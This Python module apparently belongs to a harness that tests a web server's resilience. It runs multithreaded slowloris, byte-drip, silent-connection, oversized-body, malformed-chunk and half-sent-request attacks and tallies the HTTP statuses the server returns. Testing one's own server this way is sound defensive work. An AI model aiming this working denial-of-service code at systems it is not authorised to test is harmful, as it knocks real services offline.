"""The attacks. Each goes on until it is told to stop, and begins anew where the server ends it."""

import json
import random
import re
import socket
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import suppress
from dataclasses import dataclass, field
from threading import Event
from urllib.parse import urlencode

from flask_hearth.attack.target import Target

ATTACKERS = 84
"""At a time: as many as an instance of usual size has threads."""

SILENT = 1200
"""Connections that send nothing: more than a server of usual size accepts."""

MARK = "half-sent"
"""What is never sent whole has this in its text."""

_JSON = "Content-Type: application/json"
_FORM = "Content-Type: application/x-www-form-urlencoded"
_MEBI = 2**20
_ANSWER_SECONDS = 30.0
_LOOK_SECONDS = 0.5
"""How often an attacker who waits looks whether the server has closed."""
_REFUSED_SECONDS = 0.05
_DRIP_SECONDS = 0.2
"""Between two bytes: short enough that no single wait is a long one."""


@dataclass
class Answers:
    """What the attackers got, by status; None for no answer."""

    statuses: dict[int | None, int] = field(default_factory=dict)

    def add(self, answer: bytes) -> None:
        found = re.match(rb"HTTP/1\.[01] (\d{3})", answer)
        status = int(found[1]) if found else None
        self.statuses[status] = self.statuses.get(status, 0) + 1


@dataclass(frozen=True)
class Attack:
    """`once` sends what one attacker sends, and gives what it got; `wrong` are statuses that must not come."""

    name: str
    once: Callable[[Target, Event], bytes]
    attackers: int = ATTACKERS
    wrong: range = range(500, 600)

    def run(self, target: Target, stop: Event, answers: Answers) -> None:
        """Until `stop` is set."""

        def attacker(_: int) -> None:
            while not stop.is_set():
                try:
                    answers.add(self.once(target, stop))
                except OSError:
                    # A server that is gone is no reason to keep this machine busy.
                    stop.wait(_REFUSED_SECONDS)

        with ThreadPoolExecutor(self.attackers) as pool:
            list(pool.map(attacker, range(self.attackers)))


def attacks(target: Target) -> list[Attack]:
    """Those that there is a path for."""
    objects = b'{"name":"x","a":[' + b'{"a":1},' * ((_MEBI - 30) // 8) + b"1]}"
    lists = b"[" + b"[]," * ((_MEBI - 4) // 3) + b"[]]"
    found = [
        Attack("answers left open", lambda at, stop: _left_open(at, stop, at.head("GET", at.live))),
        Attack("bodies that never come", lambda at, stop: _left_open(at, stop, _begun(at, "/nowhere", b"{"))),
        Attack("heads a byte at a time", lambda at, stop: _dripped(at, stop, at.head("GET", at.live)[:-4] + b"\r\nX-")),
        Attack("bodies a byte at a time", lambda at, stop: _dripped(at, stop, _begun(at, at.api, b"["))),
        Attack("connections that are silent", lambda at, stop: _left_open(at, stop, b""), attackers=8),
        Attack("a megabyte of small objects", lambda at, _: _posted(at, at.api, _JSON, objects)),
        Attack("a megabyte of empty lists", lambda at, _: _posted(at, at.api, _JSON, lists)),
        Attack("half-sent JSON", lambda at, _: _half_json(at), wrong=range(200, 400)),
        Attack("malformed chunks", lambda at, _: _chunks(at)),
        Attack("queries that mean nothing", lambda at, _: _asked(at, at.head("GET", f"{at.api}?{_query()}"))),
    ]
    if target.form:
        found.append(
            Attack("a megabyte of form fields", lambda at, _: _posted(at, at.form, _FORM, b"a=&" * (_MEBI // 3)))
        )
        found.append(Attack("half-sent forms", lambda at, _: _half_form(at), wrong=range(200, 400)))
    return found


def _begun(target: Target, path: str, body: bytes) -> bytes:
    return target.head("POST", path, _JSON, "Content-Length: 1000") + body


def _left_open(target: Target, stop: Event, data: bytes) -> bytes:
    """Connections that stay open when all is said. Silent ones are many, as each costs their owner next to nothing."""
    opened: list[socket.socket] = []
    try:
        for _ in range(1 if data else SILENT // 8):
            opened.append(target.connect(_ANSWER_SECONDS))
            opened[-1].sendall(data)
        answer = opened[0].recv(65536) if data.endswith(b"\r\n\r\n") else b""
        _until_given_up(opened, stop)
    finally:
        for each in opened:
            each.close()
    return answer


def _until_given_up(opened: list[socket.socket], stop: Event) -> None:
    """Until the server has closed the first for good, which a byte that is sent then finds out."""
    first = opened[0]
    first.settimeout(_LOOK_SECONDS)
    while not stop.wait(_LOOK_SECONDS):
        with suppress(TimeoutError):
            if not first.recv(65536):
                stop.wait(_LOOK_SECONDS)
                first.sendall(b"x")


def _dripped(target: Target, stop: Event, data: bytes) -> bytes:
    with target.connect(_ANSWER_SECONDS) as sock:
        sock.sendall(data)
        sock.settimeout(_DRIP_SECONDS)
        while not stop.is_set():
            with suppress(TimeoutError):
                return sock.recv(65536)
            sock.sendall(b"x")
    return b""


def _posted(target: Target, path: str, kind: str, body: bytes) -> bytes:
    return _asked(target, target.head("POST", path, kind, f"Content-Length: {len(body)}") + body)


def _half_json(target: Target) -> bytes:
    body = json.dumps({"name": MARK}).encode()
    return _asked(
        target, target.head("POST", target.api, _JSON, f"Content-Length: {len(body) + 100}") + body, half=True
    )


def _query() -> str:
    names = ("sort", "cursor", "page", "per_page", "created_at[gt]", "created_at[lte]", "name", "%5B%5D")
    values = ("-created_at", "%00", "%FF", "0001-01-01T00:00:00%2B23:59", "9" * 400, "-1", "NaN", "", "a.b")
    return "&".join(f"{random.choice(names)}={random.choice(values)}" for _ in range(3))  # noqa: S311 - no secret


def _chunks(target: Target) -> bytes:
    head = target.head("POST", target.api, _JSON, "Transfer-Encoding: chunked")
    return _asked(target, head + b"zz\r\n{}\r\n0\r\n\r\n", half=True)


def _half_form(target: Target) -> bytes:
    """A form as its page gives it, its text fields filled in, without the end of what is announced."""
    page = _asked(target, target.head("GET", f"{target.form}/new")).decode(errors="replace")
    values = dict(re.findall(r'name="([^"]+)"[^>]*value="([^"]*)"', page))
    values |= dict.fromkeys(re.findall(r'<(?:textarea|input type="text")[^>]*name="([^"]+)"', page), MARK)
    cookies = "; ".join(each.split(";")[0] for each in re.findall(r"(?i)set-cookie: ([^\r]+)", page))
    body = urlencode(values).encode()
    head = target.head("POST", target.form, _FORM, f"Cookie: {cookies}", f"Content-Length: {len(body) + 20}")
    return _asked(target, head + body, half=True)


def _asked(target: Target, request: bytes, *, half: bool = False) -> bytes:
    """The whole answer; with `half`, after saying that nothing more comes."""
    with target.connect(_ANSWER_SECONDS) as sock:
        # Refused before its end, a body breaks off; the answer is there all the same.
        with suppress(OSError):
            sock.sendall(request)
            if half:
                sock.shutdown(socket.SHUT_WR)
        received: Iterator[bytes] = iter(lambda: sock.recv(65536), b"")
        return b"".join(received)
